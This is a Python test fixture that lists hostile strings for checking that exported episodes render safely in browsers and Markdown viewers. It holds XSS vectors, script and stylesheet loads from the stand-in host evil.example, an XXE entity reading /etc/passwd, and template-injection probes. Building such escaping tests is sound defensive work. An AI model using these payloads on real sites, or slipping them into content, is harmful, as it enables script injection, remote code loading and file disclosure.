"""What an episode might say to whoever reads an export: all that a terminal might obey, and what a browser, a picture
or a Markdown renderer might."""

from tests.episodes.hostile import PAYLOADS as OF_TERMINALS

OF_PAGES = (
    "<script>document.title='pwned'</script>",
    "</script><script>document.title='pwned'</script>",
    "</pre></code></td></details><script src=//evil.example/x.js></script>",
    "<img src=x onerror=\"document.title='pwned'\">",
    "\"><img src=x onerror=document.title='pwned'>",
    "' onmouseover='document.title=1' x='",
    '" autofocus onfocus="document.title=1" x="',
    "<svg onload=document.title='pwned'>",
    "<svg><script>document.title='pwned'</script></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.document.title=1</script>'></foreignObject></svg>",
    "<use href='data:image/svg+xml,<svg/>#x'/>",
    "<iframe src=javascript:document.title='pwned'></iframe>",
    "<a href=javascript:document.title='pwned'>x</a>",
    "javascript:document.title='pwned'",
    "<object data='data:text/html,<script>1</script>'></object><embed src=x>",
    "<base href=http://evil.example/>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<style>body{display:none}@import url(http://evil.example/)</style>",
    "</style><style>*{background:url(http://evil.example/)}</style>",
    "}*{background:url(//evil.example/);}",
    "</title><h1>out of the title</h1>",
    "<!--", "-->", "<![CDATA[", "]]>", "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "&lt;script&gt;", "&#60;script&#62;", "&#x1b;[2J", "&amp;amp;",
    "{{ 7 * 7 }}{% include 'page.css' %}{# x #}", "{{ self.__init__.__globals__ }}", "${7*7}<%= 7*7 %>",
    "<template><details open ontoggle=document.title='pwned'></template>",
    "<form action=http://evil.example/><button formaction=//evil.example/>x</form>",
    "<plaintext>", "<textarea>", "<noscript><p title='</noscript><img src=x onerror=document.title=1>'>",
    "<math><mtext><mglyph><style><img src=x onerror=document.title=1>",
    "page-1\" id=\"verdict", "#page-2",
)  # fmt: skip
OF_MARKDOWN = (
    "```\n# out of the fence\n```", "````\n~~~\n`````\n", "~~~\nout\n~~~", "` `` ``` x", "`", "``",
    "\n\n# heading\n\n- list\n\n> quote\n", "[x](http://evil.example/)", "![x](http://evil.example/x.png)",
    "[x]: http://evil.example/", "<http://evil.example/>", "http://evil.example/", "@everyone #1 GH-1",
    "| a | b |\n|---|---|",
    "\n---\n", "\n    indented\n", "\\`escaped\\`", "trailing\\", "*bold* _it_ ~~no~~", "<details><summary>x</summary>",
    "text\n===\n",
)  # fmt: skip
PAYLOADS = (*OF_TERMINALS, *OF_PAGES, *OF_MARKDOWN)
